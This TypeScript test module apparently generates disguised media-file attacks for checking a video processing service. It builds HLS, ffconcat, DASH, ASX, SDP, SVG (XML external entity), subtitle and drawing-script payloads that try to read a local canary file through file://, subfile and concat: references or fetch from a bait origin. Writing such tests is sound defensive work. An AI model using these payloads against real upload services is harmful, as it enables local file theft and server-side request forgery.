/** Attacks by text: lists of other files and addresses, under a video's name. */
import type { Attack, Bait } from './attack.ts';

const text = (name: string, ...lines: string[]): Attack => ({
  name,
  fileName: `${name.replaceAll(/\W+/g, '-')}.mp4`,
  bytes: Buffer.from(`${lines.join('\n')}\n`),
  outcome: 'no video',
});

const hls = (name: string, ...addresses: string[]): Attack =>
  text(
    `HLS playlist, ${name}`,
    ...['#EXTM3U', '#EXT-X-TARGETDURATION:2', '#EXT-X-MEDIA-SEQUENCE:0'],
    ...addresses.flatMap((address) => (address.startsWith('#') ? [address] : ['#EXTINF:2,', address])),
    '#EXT-X-ENDLIST',
  );

export const playlistAttacks = ({ canary, video, origin }: Bait): Attack[] => [
  hls('file', `file://${canary}`),
  hls('bare path', canary),
  hls('another video', `file://${video}`),
  hls('address', `${origin}/hls.ts`),
  hls('subfile', `subfile,,start,0,end,64,,:${canary}`),
  hls(
    'crypto',
    `#EXT-X-KEY:METHOD=AES-128,URI="${origin}/key",IV=0x00000000000000000000000000000000`,
    canary,
  ),
  hls('concat into an address', `concat:${origin}/head?|${canary}`),
  hls('data', 'data:video/mp4;base64,AAAA'),
  hls('header section', `#EXT-X-MAP:URI="file://${canary}"`, `${origin}/1.m4s`),
  text(
    'HLS master playlist',
    '#EXTM3U',
    '#EXT-X-STREAM-INF:BANDWIDTH=1000',
    `${origin}/list.m3u8`,
    '#EXT-X-STREAM-INF:BANDWIDTH=2000',
    `file://${canary}`,
  ),
  text('concat script, file', 'ffconcat version 1.0', `file '${canary}'`),
  text('concat script, video', 'ffconcat version 1.0', `file '${video}'`),
  text('concat script, address', 'ffconcat version 1.0', `file '${origin}/a.mp4'`),
  text(
    'SDP',
    'v=0',
    'o=- 0 0 IN IP4 127.0.0.1',
    's=a',
    'c=IN IP4 127.0.0.1',
    't=0 0',
    'm=video 18190 RTP/AVP 33',
  ),
  text('ASF references', '[Reference]', `Ref1=${origin}/a.asf?MSWMExt=.asf`),
  text('RTSP text', `rtsptext${origin.replace('http', 'rtsp')}/a`),
  text('ASX', '<ASX version="3.0"><ENTRY>', `<REF HREF="${origin}/a.wmv" />`, '</ENTRY></ASX>'),
  text(
    'DASH manifest',
    '<?xml version="1.0"?>',
    '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" type="static">',
    `<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000"><BaseURL>${origin}/d.mp4</BaseURL>`,
    '<SegmentBase indexRange="0-1"/></Representation></AdaptationSet></Period></MPD>',
  ),
  text(
    'SVG',
    '<?xml version="1.0"?>',
    `<!DOCTYPE svg [<!ENTITY canary SYSTEM "file://${canary}">]>`,
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">',
    `<image xlink:href="${origin}/p.png" width="64" height="64"/><image xlink:href="file://${canary}"/>`,
    '<text>&canary;</text></svg>',
  ),
  text('subtitles', '1', '00:00:00,000 --> 00:00:02,000', `<font face="file://${canary}">text</font>`),
  text('picture script', 'push graphic-context', `image over 0,0 0,0 '${origin}/i'`, 'pop graphic-context'),
];
